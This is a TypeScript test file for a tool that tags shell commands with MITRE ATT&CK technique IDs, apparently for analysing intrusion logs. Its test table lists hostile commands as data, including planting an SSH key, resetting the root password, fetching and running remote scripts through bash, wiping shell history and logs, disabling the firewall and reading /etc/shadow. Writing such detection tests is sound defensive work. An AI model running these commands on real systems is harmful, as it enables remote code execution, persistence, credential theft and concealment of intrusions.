import { describe, expect, test } from "bun:test";
import { PURPOSES } from "../../../lib/text/purpose-names.ts";
import { techniqueName, TECHNIQUES, techniquesOf } from "../../../lib/text/techniques.ts";

describe("the table", () => {
  test.each(TECHNIQUES.map(technique => [technique.id, technique] as const))("%s has a rule that fits its example", (id, { example, name, rule, purpose, programs, text, writes, isFor }) => {
    expect(id).toMatch(/^T\d{4}(?:\.\d{3})?$/);
    expect(techniquesOf(example)).toContain(id);
    expect(PURPOSES.some(one => one.id === purpose)).toBe(true);
    expect([name, rule].every(words => words.length > 3)).toBe(true);
    expect([programs, text, writes, isFor].some(one => one !== undefined)).toBe(true);
  });

  test("has each technique once", () => {
    expect(new Set(TECHNIQUES.map(({ id }) => id)).size).toBe(TECHNIQUES.length);
  });
});

test.each([
  ["uname -a", "T1082"],
  ["cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa <key>\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~", "T1098.004 T1222.002 T1070.004"],
  ['echo "root:<password>"|chpasswd|bash', "T1059.004 T1531"],
  ["cd /tmp; wget http://<host>/x -O - > .x; chmod 777 .x; ./.x", "T1222.002 T1105"],
  ["curl -s http://<host>/i.sh | sudo bash", "T1059.004 T1105"],
  ["cat /proc/cpuinfo | grep name | wc -l", "T1082"],
  ["crontab -l", ""],
  ["crontab /tmp/c", "T1053.003"],
  ["history -c; unset HISTFILE", "T1070.003"],
  ["rm -rf /var/log/wtmp", "T1070.002 T1070.004"],
  ["/etc/init.d/iptables stop;service iptables stop", "T1562.004 T1489"],
  ["cat /etc/passwd", "T1087.001"],
  ["cat /etc/shadow", "T1003.008"],
  ["rm -rf /tmp/secure.sh; pkill -9 secure.sh; echo > /etc/hosts.deny", "T1070.004 T1562.004 T1489"],
  ["echo -e \"\\x7f\\x45\\x4c\\x46\\x01\" > .s", "T1105"],
  ["echo -e \"\\x6F\\x6B\"", ""],
  ["wget; curl; tftp", ""],
  ["/bin/busybox wget http://<host>/x", "T1105"],
  ["enable", ""],
  ["sh", ""],
  ["sh x.sh", "T1059.004"],
  ["echo authorized", ""],
  ["", ""],
])("%s: %s", (command, ids) => {
  expect(techniquesOf(command).join(" ")).toBe(ids);
});

test("a technique by its name; an id that nobody knows alone", () => {
  expect(techniqueName("T1105")).toBe("T1105 Ingress Tool Transfer");
  expect(techniqueName("T9999")).toBe("T9999");
});
